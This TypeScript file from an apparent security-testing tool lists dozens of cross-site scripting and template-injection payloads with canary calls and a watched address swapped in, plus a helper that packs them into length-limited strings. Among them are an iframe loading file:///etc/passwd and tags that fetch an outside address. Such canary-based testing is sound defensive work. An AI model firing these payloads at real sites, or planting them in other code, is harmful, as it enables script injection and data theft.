// SPDX-License-Identifier: Apache-2.0
/** Common script payloads. HERE stands for a call that reports that the script ran, OUT for a watched address. */
const WRITTEN = [
  '<script>HERE</script>',
  '<img src=x onerror=HERE>',
  '"><img src=x onerror=HERE>',
  "'><img src=x onerror=HERE>",
  '<svg onload=HERE>',
  '"><svg/onload=HERE>',
  '</title><script>HERE</script>',
  '</script><script>HERE</script>',
  '</textarea><svg onload=HERE>',
  'javascript:HERE',
  'JaVaScRiPt:HERE',
  'java%0ascript:HERE',
  'data:text/html,<script>HERE</script>',
  '<a href=javascript:HERE>x</a>',
  '<iframe src=javascript:HERE>',
  "<iframe srcdoc='<script>parent.HERE</script>'>",
  '<body onload=HERE>',
  '<details open ontoggle=HERE>',
  '<input autofocus onfocus=HERE>',
  '<video src=x onerror=HERE>',
  '<audio src=x onerror=HERE>',
  '<object data=javascript:HERE>',
  '<embed src=javascript:HERE>',
  '<marquee onstart=HERE>',
  '<math><mi xlink:href=javascript:HERE>',
  '<style>@import "OUT"</style>',
  '<link rel=stylesheet href=OUT>',
  '<base href=OUT/>',
  '<meta http-equiv=refresh content=0;OUT>',
  '<form action=javascript:HERE><button autofocus>',
  '" onmouseover=HERE x="',
  "' onfocus=HERE autofocus='",
  '" autofocus onfocus=HERE "',
  '`-HERE-`',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: the syntax of other template languages
  '${HERE}',
  "{{constructor.constructor('HERE')()}}",
  '{{HERE}}',
  '#{HERE}',
  '<%= HERE %>',
  "';HERE;//",
  '";HERE;//',
  "\\';HERE;//",
  '--><script>HERE</script>',
  ']]><script>HERE</script>',
  '*//*--><svg onload=HERE>',
  '<scr<script>ipt>HERE</script>',
  '<img/src/onerror=HERE>',
  '<svg><script>HERE</script></svg>',
  '<svg><animate onbegin=HERE attributeName=x>',
  '<svg><a xlink:href=javascript:HERE><text>x',
  '<img src=`x` onerror=HERE>',
  '<IMG SRC=x OnErRoR=HERE>',
  '&lt;script&gt;HERE&lt;/script&gt;',
  '%3Cscript%3EHERE%3C/script%3E',
  '\\u003cscript\\u003eHERE\\u003c/script\\u003e',
  '+ADw-script+AD4-HERE+ADw-/script+AD4-',
  '<noscript><p title="</noscript><svg onload=HERE>">',
  '<template><script>HERE</script></template>',
  '<select autofocus onfocus=HERE>',
  '<p style="background:url(OUT)">',
  '<img src=OUT>',
  '<x contenteditable onfocus=HERE tabindex=1 autofocus>',
  '#link("OUT")[x]',
  '#image("OUT")',
  '#eval("HERE")',
  '\\href{OUT}{x}',
  '<iframe src=file:///etc/passwd>',
]

/** All payloads. A script that runs reports the number of its payload. `out` is the watched address. */
export function scriptPayloads(out: string): string[] {
  return WRITTEN.map((text, id) => text.replaceAll('HERE', `canary(${id})`).replaceAll('OUT', out))
}

/** Packs all payloads into as few texts as the maximum length allows. */
export function packed(payloads: readonly string[], maxLength: number): string[] {
  const texts: string[] = []
  for (const payload of payloads) {
    const last = texts.at(-1)
    if (last !== undefined && last.length + payload.length < maxLength) texts[texts.length - 1] = `${last} ${payload}`
    else texts.push(payload.slice(0, maxLength))
  }
  return texts
}
